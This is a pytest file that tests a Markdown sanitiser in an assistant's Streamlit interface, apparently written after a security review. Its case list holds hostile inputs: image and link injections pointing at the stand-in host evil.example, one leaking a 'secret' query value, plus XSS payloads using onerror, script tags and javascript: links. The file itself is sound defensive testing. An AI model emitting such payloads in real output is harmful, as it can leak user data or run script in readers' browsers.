"""Output sanitising against inputs built to slip through one pass or another.

Each case went through the real render path (sanitise, verify, sanitise, badges) in a
review and, before the fix, rendered a remote image or link in Streamlit's Markdown.
"""

from __future__ import annotations

import re

import pytest

from assistant.core.sanitize import sanitize_markdown
from ui.render import answer_markdown

DANGEROUS = re.compile(r"!\[|\]\(|\]\[|<\s*[a-z!/]|//evil|evil\.example|javascript:|^\s*\[[^\]]+\]:", re.I | re.M)

CASES = [
    '!<b>[x](//evil.example/p.png "it\'s")',
    'Tokenization [Q1]. !<<b>b>[x](//evil.example/p.png "it\'s")',
    "![x](<//evil.example/a b.png>)",
    "![x](https:\\/\\/evil.example/a.png)",
    "> [r]: //evil.example/a.png\n!<b>[x][r]",
    "- [r]: http://evil.example/a.png\n![x][r]",
    '[a](//evil.example/?q=secret "it\'s")',
    "<img\nsrc=x\nonerror=alert(1)>",
    "![x]\n(http://evil.example/a.png)",
    "[click](JAVASCRIPT:alert(1))",
    "<a href='javascript:alert(1)'>x</a><script>alert(1)</script>",
    "HTTPS://EVIL.example/x and www.evil.example/y",
]


@pytest.mark.parametrize("text", CASES)
def test_no_link_image_or_tag_survives(text):
    once = sanitize_markdown(text)
    rendered = answer_markdown(sanitize_markdown(once))  # the answer path sanitises twice
    assert not DANGEROUS.search(once), once
    assert not DANGEROUS.search(rendered), rendered


def test_citations_and_ordinary_text_are_kept():
    text = "GQA shares K/V heads [Q38, Q12]. Use 2 < 3 and steps (1) and (2)."
    assert sanitize_markdown(text) == text
    assert answer_markdown(text).startswith("GQA shares K/V heads :blue-badge[Q38] :blue-badge[Q12].")
